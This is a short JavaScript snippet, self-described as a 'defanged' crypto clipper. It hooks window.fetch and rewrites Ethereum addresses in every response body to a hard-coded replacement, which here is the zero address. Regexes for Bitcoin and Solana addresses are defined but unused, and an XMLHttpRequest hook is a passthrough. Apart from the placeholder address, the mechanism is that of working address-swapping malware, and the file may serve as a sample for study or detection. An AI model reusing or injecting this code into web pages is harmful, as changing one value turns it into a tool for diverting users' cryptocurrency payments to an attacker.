// defanged clipper shape: the replacement addresses are all-zero / made up
(function () {
  const patterns = {
    ethereum: /\b0x[a-fA-F0-9]{40}\b/g,
    bitcoinSegwit: /\bbc1[qp][a-z0-9]{38,58}\b/g,
    solana: /\b[1-9A-HJ-NP-Za-km-z]{32,44}\b/g,
  };
  const mine = { ethereum: '0x0000000000000000000000000000000000000000' };
  function rewrite(text) {
    return text.replace(patterns.ethereum, mine.ethereum);
  }
  if (typeof window !== 'undefined') {
    const orig = window.fetch;
    window.fetch = async function (...args) {
      const res = await orig.apply(this, args);
      const body = rewrite(await res.clone().text());
      return new Response(body, res);
    };
    const open = XMLHttpRequest.prototype.open;
    XMLHttpRequest.prototype.open = function (...a) { return open.apply(this, a); };
  }
})();
